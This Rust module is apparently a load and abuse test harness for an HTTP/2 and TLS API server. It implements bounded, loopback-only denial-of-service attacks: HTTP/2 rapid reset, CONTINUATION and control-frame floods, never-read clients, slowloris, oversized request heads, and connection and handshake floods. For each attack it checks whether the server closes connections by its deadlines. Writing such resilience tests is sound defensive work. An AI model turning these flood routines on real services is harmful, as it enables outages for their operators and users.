//! The attacks: each is bounded in count and time, stays on loopback, and returns what it
//! saw plus the connections it still holds open (for the idle kinds: the server must close
//! them itself, by its deadlines, while the attacker keeps them).

use std::any::Any;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use futures::StreamExt;
use futures::stream;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::cluster::Cluster;
use super::frames;
use super::observe::ALL_PODS;
use super::tls::{Alpn, Conn, Tls, get};

/// Connections the attacker keeps open after the attack.
pub type Held = Vec<Box<dyn Any + Send>>;

/// What an attack saw.
#[derive(Default)]
pub struct Outcome {
    /// Figures for the table (counts, statuses, when the server closed connections).
    pub note: String,
    /// What a user would call wrong (an unexpected status, a connection the server kept).
    pub problems: Vec<String>,
    pub held: Held,
}

/// Where and as whom the attacks connect.
#[derive(Clone)]
pub struct Target {
    pub addr: SocketAddr,
    pub anonymous: Tls,
    pub aggregator: Tls,
}

/// How long one attacker connection may take to connect and handshake (a server that has
/// run out of descriptors leaves connections unaccepted: they give up after this).
const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);
/// Handshakes under way at once while opening many connections.
const OPENING: usize = 64;

/// The connections that opened, kept open until the attack's end.
fn hold<C: Send + 'static>(opened: Vec<Option<C>>) -> Held {
    opened
        .into_iter()
        .flatten()
        .map(|c| Box::new(c) as Box<dyn Any + Send>)
        .collect()
}

/// Runs `f(i)` for every `i < n`, at most `concurrency` at once.
async fn each<T, F, Fut>(n: usize, concurrency: usize, f: F) -> Vec<T>
where
    F: Fn(usize) -> Fut,
    Fut: Future<Output = T>,
{
    stream::iter(0..n)
        .map(f)
        .buffer_unordered(concurrency)
        .collect()
        .await
}

/// `n` TLS connections (ALPN `alpn`) that send `first` after the handshake, then nothing.
pub async fn idle_tls(t: &Target, n: usize, alpn: Alpn, first: &[u8]) -> Outcome {
    let opened = each(n, OPENING, |_| async {
        let mut tls = tokio::time::timeout(CONNECT_TIMEOUT, t.anonymous.connect(t.addr, alpn))
            .await
            .ok()?
            .ok()?;
        if !first.is_empty() {
            tls.write_all(first).await.ok()?;
            tls.flush().await.ok()?;
        }
        Some(tls)
    })
    .await;
    let held = hold(opened);
    Outcome {
        note: format!("{} of {n} opened and held", held.len()),
        problems: Vec::new(),
        held,
    }
}

/// `n` TCP connections that never start TLS: each costs the server a descriptor.
pub async fn raw_tcp(addr: SocketAddr, n: usize) -> Outcome {
    let opened = each(n, 64, |_| async {
        tokio::time::timeout(Duration::from_secs(3), TcpStream::connect(addr))
            .await
            .ok()?
            .ok()
    })
    .await;
    let held = hold(opened);
    Outcome {
        note: format!("{} of {n} connected and held", held.len()),
        problems: Vec::new(),
        held,
    }
}

/// A flood of requests that each need their own answer: `n` requests over `connections`
/// HTTP/2 connections, 8 in flight on each, request `i` made by `request(i)`; every answer
/// must be one of `expected`.
pub async fn request_flood(
    t: &Target,
    n: usize,
    connections: usize,
    request: impl Fn(usize) -> http::Request<http_body_util::Empty<bytes::Bytes>> + Sync,
    expected: &[u16],
) -> Outcome {
    let statuses = Arc::new(std::sync::Mutex::new(std::collections::BTreeMap::new()));
    let errors = AtomicUsize::new(0);
    let per_conn = n.div_ceil(connections);
    each(connections, connections, |c| {
        let (statuses, errors, request) = (statuses.clone(), &errors, &request);
        async move {
            let Ok(conn) = Conn::open(&t.anonymous, t.addr, Alpn::Http2).await else {
                errors.fetch_add(per_conn, Ordering::Relaxed);
                return;
            };
            let first = c * per_conn;
            each(per_conn.min(n.saturating_sub(first)), 8, |i| {
                let mut conn = conn.stream().expect("an HTTP/2 connection");
                let statuses = statuses.clone();
                async move {
                    match conn.send(request(first + i)).await {
                        Ok(a) => *statuses.lock().unwrap().entry(a.status).or_insert(0) += 1,
                        Err(_) => {
                            errors.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                }
            })
            .await;
        }
    })
    .await;
    let statuses = statuses.lock().unwrap().clone();
    let errors = errors.load(Ordering::Relaxed);
    let mut problems = Vec::new();
    let unexpected: Vec<_> = statuses
        .iter()
        .filter(|(s, _)| !expected.contains(s))
        .collect();
    if !unexpected.is_empty() {
        problems.push(format!(
            "unexpected statuses (status, count): {unexpected:?}"
        ));
    }
    if errors > 0 {
        problems.push(format!("{errors} requests got no answer"));
    }
    let shown: Vec<String> = statuses.iter().map(|(s, c)| format!("{c}×{s}")).collect();
    Outcome {
        note: format!("{n} requests: {}", shown.join(", ")),
        problems,
        held: Vec::new(),
    }
}

/// HTTP/2 clients that never read: each connection advertises the largest windows, opens
/// `streams` requests (all-pods lists authorized by a pod's bearer token on half the
/// connections, anonymous ones answered 403 on the other half) and reads nothing. What a pod
/// can do: only the aggregator holds the front-proxy certificate.
pub async fn never_read(t: &Target, connections: usize, streams: u32) -> Outcome {
    let bearer = Cluster::api_bearer();
    let token: &[(&str, &[u8])] = &[("authorization", &bearer)];
    let opened = each(connections, OPENING, |c| async move {
        let extra = match c % 2 {
            0 => token,
            _ => &[][..],
        };
        let tls = &t.anonymous;
        let mut conn = tls.connect(t.addr, Alpn::Http2).await.ok()?;
        let mut out = frames::greedy_preface();
        let block = frames::get_block(ALL_PODS, extra);
        for s in 0..streams {
            out.extend(frames::request_headers(2 * s + 1, &block));
        }
        conn.write_all(&out).await.ok()?;
        conn.flush().await.ok()?;
        Some(conn)
    })
    .await;
    let held = hold(opened);
    Outcome {
        note: format!(
            "{} of {connections} connections × {streams} streams, never read",
            held.len()
        ),
        problems: Vec::new(),
        held,
    }
}

/// What a flood connection saw of the server.
struct Flooded {
    sent: u64,
    seen: frames::Seen,
}

/// One HTTP/2 connection that writes `preface`, then the frames `next(i)` returns (in
/// batches) until it returns `None`, the server stops taking them, or `budget` passes; it
/// reads (and discards) whatever the server sends unless `read` is false.
async fn flood_connection(
    t: &Target,
    preface: Vec<u8>,
    next: impl Fn(u64) -> Option<Vec<u8>>,
    read: bool,
    budget: Duration,
) -> Option<Flooded> {
    let conn = t.anonymous.connect(t.addr, Alpn::Http2).await.ok()?;
    let (r, mut w) = tokio::io::split(conn);
    // A reader that discards the server's frames, or the read half kept unread.
    let (reader, _unread) = if read {
        let task = tokio::spawn(async move {
            let mut r = r;
            frames::read_frames(&mut r).await
        });
        (Some(task), None)
    } else {
        (None, Some(r))
    };
    let started = Instant::now();
    let mut sent = 0u64;
    let write = async {
        w.write_all(&preface).await.ok()?;
        while let Some(batch) = next(sent) {
            w.write_all(&batch).await.ok()?;
            sent += 1;
        }
        w.flush().await.ok()
    };
    let _ = tokio::time::timeout(budget, write).await;
    let _ = tokio::time::timeout(Duration::from_millis(100), w.shutdown()).await;
    let seen = match reader {
        Some(task) => {
            let remaining = budget.saturating_sub(started.elapsed()) + Duration::from_secs(2);
            let abort = task.abort_handle();
            match tokio::time::timeout(remaining, task).await {
                Ok(Ok(seen)) => seen,
                _ => {
                    abort.abort();
                    frames::Seen::default()
                }
            }
        }
        None => frames::Seen::default(),
    };
    Some(Flooded { sent, seen })
}

/// Sums what several flood connections saw into a note.
fn flood_note(label: &str, per_batch: u64, floods: &[Option<Flooded>]) -> String {
    let done: Vec<&Flooded> = floods.iter().flatten().collect();
    let sent: u64 = done.iter().map(|f| f.sent * per_batch).sum();
    let mut goaways = std::collections::BTreeMap::new();
    for code in done.iter().filter_map(|f| f.seen.goaway) {
        *goaways.entry(format!("{code:#x}")).or_insert(0) += 1;
    }
    let closed = done.iter().filter(|f| f.seen.closed_at.is_some()).count();
    format!(
        "{} connections, {sent} {label} sent; GOAWAYs by code {goaways:?}; {closed} closed by the server",
        done.len()
    )
}

/// Rapid reset: HEADERS then RST_STREAM for up to `streams` streams on each of
/// `connections` connections, `concurrency` at a time (a new one when the server closes one).
pub async fn rapid_reset(
    t: &Target,
    connections: usize,
    concurrency: usize,
    streams: u64,
    budget: Duration,
) -> Outcome {
    const PER_BATCH: u64 = 100;
    let block = frames::get_block(ALL_PODS, &[]);
    let ends = Instant::now() + budget;
    let floods = each(connections, concurrency, |_| {
        let left = ends.saturating_duration_since(Instant::now());
        flood_connection(
            t,
            frames::plain_preface(),
            |batch| {
                if batch * PER_BATCH >= streams {
                    return None;
                }
                let mut out = Vec::new();
                for k in 0..PER_BATCH {
                    let id = u32::try_from(2 * (batch * PER_BATCH + k) + 1).ok()?;
                    out.extend(frames::request_headers(id, &block));
                    out.extend(frames::rst_stream(id, frames::CANCEL));
                }
                Some(out)
            },
            true,
            left,
        )
    })
    .await;
    Outcome {
        note: flood_note("streams opened and reset", PER_BATCH, &floods),
        ..Outcome::default()
    }
}

/// CONTINUATION flood: a header block that never ends, 16 KiB a frame, up to `bytes` a
/// connection.
pub async fn continuation_flood(
    t: &Target,
    connections: usize,
    bytes: u64,
    budget: Duration,
) -> Outcome {
    let mut field = Vec::new();
    frames::literal(&mut field, b"x-flood", &vec![b'a'; 16_000]);
    let frames_per_conn = bytes / field.len() as u64;
    let start = frames::open_headers(1, &frames::get_block(ALL_PODS, &[]));
    let floods = each(connections, connections, |_| {
        let mut preface = frames::plain_preface();
        preface.extend_from_slice(&start);
        flood_connection(
            t,
            preface,
            |i| (i < frames_per_conn).then(|| frames::continuation(1, &field, false)),
            true,
            budget,
        )
    })
    .await;
    let problems = floods
        .iter()
        .flatten()
        .filter(|f| f.seen.closed_at.is_none())
        .map(|_| "a connection was still open after its header block passed the limit".into())
        .take(1)
        .collect();
    Outcome {
        note: flood_note("16 KiB CONTINUATION frames", 1, &floods),
        problems,
        held: Vec::new(),
    }
}

/// A control-frame flood that never reads the answers: `frames_per_conn` copies of `one`.
pub async fn control_flood(
    t: &Target,
    label: &str,
    connections: usize,
    frames_per_conn: u64,
    one: fn(u64) -> Vec<u8>,
    budget: Duration,
) -> Outcome {
    const PER_BATCH: u64 = 1000;
    let floods = each(connections, connections, |_| {
        flood_connection(
            t,
            frames::plain_preface(),
            |batch| {
                (batch * PER_BATCH < frames_per_conn).then(|| {
                    (0..PER_BATCH)
                        .flat_map(|k| one(batch * PER_BATCH + k))
                        .collect()
                })
            },
            false,
            budget,
        )
    })
    .await;
    Outcome {
        note: flood_note(label, PER_BATCH, &floods),
        ..Outcome::default()
    }
}

/// Slowloris: `connections` HTTP/1.1 request heads, each trickled a byte every `every`, for
/// at most `budget`; the server must close every one by its request-head deadline.
pub async fn slowloris(
    t: &Target,
    connections: usize,
    every: Duration,
    budget: Duration,
    closes_within: Duration,
) -> Outcome {
    let head: &[u8] = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ";
    let ends = Instant::now() + budget;
    let closed_after = each(connections, connections, |_| async move {
        let conn = tokio::time::timeout(CONNECT_TIMEOUT, t.anonymous.connect(t.addr, Alpn::Http1))
            .await
            .ok()?
            .ok()?;
        let (mut r, mut w) = tokio::io::split(conn);
        let first = Instant::now();
        let mut sink = [0u8; 256];
        let mut tick = tokio::time::interval(every);
        for byte in head.iter().chain(std::iter::repeat(&b'a')) {
            tokio::select! {
                _ = tick.tick() => {
                    if w.write_all(&[*byte]).await.is_err() {
                        return Some(first.elapsed());
                    }
                }
                read = r.read(&mut sink) => {
                    if matches!(read, Ok(0) | Err(_)) {
                        return Some(first.elapsed());
                    }
                }
            }
            if Instant::now() >= ends {
                return None;
            }
        }
        None
    })
    .await;
    let closed: Vec<Duration> = closed_after.iter().flatten().copied().collect();
    let slowest = closed.iter().max().copied().unwrap_or_default();
    let mut problems = Vec::new();
    if closed.len() < connections {
        problems.push(format!(
            "{} of {connections} trickling connections were still open after {budget:?}",
            connections - closed.len()
        ));
    }
    if slowest > closes_within {
        problems.push(format!(
            "a trickling head was closed only after {slowest:?}"
        ));
    }
    Outcome {
        note: format!(
            "{connections} heads trickled a byte per {every:?}; {} closed by the server, the last after {:.1}s",
            closed.len(),
            slowest.as_secs_f64()
        ),
        problems,
        held: Vec::new(),
    }
}

/// Request heads of about `kib` KiB (1 KiB header lines), `per_conn` in turn on each of
/// `connections` HTTP/1.1 connections; each must be answered `expected`.
pub async fn big_heads(
    t: &Target,
    connections: usize,
    per_conn: usize,
    kib: usize,
    expected: u16,
) -> Outcome {
    let value = vec![b'h'; 1000];
    let names: Vec<String> = (0..kib).map(|i| format!("x-big-{i}")).collect();
    let headers: Vec<(&str, &[u8])> = names
        .iter()
        .map(|n| (n.as_str(), value.as_slice()))
        .collect();
    let answers = each(connections, connections, |_| async {
        let mut statuses = Vec::new();
        let Ok(mut conn) = Conn::open(&t.anonymous, t.addr, Alpn::Http1).await else {
            return vec![None];
        };
        for _ in 0..per_conn {
            match conn.send(get("/healthz", &headers)).await {
                Ok(a) => statuses.push(Some(a.status)),
                Err(_) => {
                    statuses.push(None);
                    break;
                }
            }
        }
        statuses
    })
    .await;
    let all: Vec<Option<u16>> = answers.into_iter().flatten().collect();
    let good = all.iter().filter(|s| **s == Some(expected)).count();
    let mut problems = Vec::new();
    if good != connections * per_conn {
        problems.push(format!(
            "{good} of {} heads answered {expected}; others: {:?}",
            connections * per_conn,
            all.iter()
                .filter(|s| **s != Some(expected))
                .take(5)
                .collect::<Vec<_>>()
        ));
    }
    Outcome {
        note: format!("{} heads of {kib} KiB answered {expected}", good),
        problems,
        held: Vec::new(),
    }
}

/// HTTP/1.1 heads of `lines` empty header lines (`a:`, 4 bytes each), written raw, `per_conn`
/// at a time on each of `connections` connections; every head must get an HTTP answer.
pub async fn many_lines(t: &Target, connections: usize, per_conn: usize, lines: usize) -> Outcome {
    let mut head = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n".to_vec();
    head.extend(b"a:\r\n".repeat(lines));
    head.extend_from_slice(b"\r\n");
    let head = &head;
    let answers = each(connections * per_conn, connections, |_| async move {
        let mut conn =
            tokio::time::timeout(CONNECT_TIMEOUT, t.anonymous.connect(t.addr, Alpn::Http1))
                .await
                .ok()?
                .ok()?;
        // The server may answer before reading it all: a failed write is not the verdict.
        let _ = conn.write_all(head).await;
        let mut status = [0u8; 12];
        tokio::time::timeout(Duration::from_secs(10), conn.read_exact(&mut status))
            .await
            .ok()?
            .ok()?;
        Some(String::from_utf8_lossy(&status[9..]).into_owned())
    })
    .await;
    let mut statuses = std::collections::BTreeMap::new();
    for a in &answers {
        *statuses
            .entry(a.clone().unwrap_or_else(|| "none".into()))
            .or_insert(0) += 1;
    }
    let problems = match statuses.get("none") {
        Some(n) => vec![format!(
            "{n} heads got no HTTP answer (the connection was dropped)"
        )],
        None => Vec::new(),
    };
    Outcome {
        note: format!(
            "{} heads of {lines} lines ({} KiB): statuses {statuses:?}",
            answers.len(),
            head.len() / 1024
        ),
        problems,
        held: Vec::new(),
    }
}

/// `n` full TLS handshakes, 16 at a time, each connection closed right after.
pub async fn handshake_flood(t: &Target, n: usize) -> Outcome {
    let done = each(n, 16, |_| async {
        tokio::time::timeout(CONNECT_TIMEOUT, t.anonymous.connect(t.addr, Alpn::Http1))
            .await
            .is_ok_and(|c| c.is_ok())
    })
    .await;
    let ok = done.iter().filter(|d| **d).count();
    let problems = if ok < n {
        vec![format!("{} of {n} handshakes failed", n - ok)]
    } else {
        Vec::new()
    };
    Outcome {
        note: format!("{ok} handshakes completed"),
        problems,
        held: Vec::new(),
    }
}
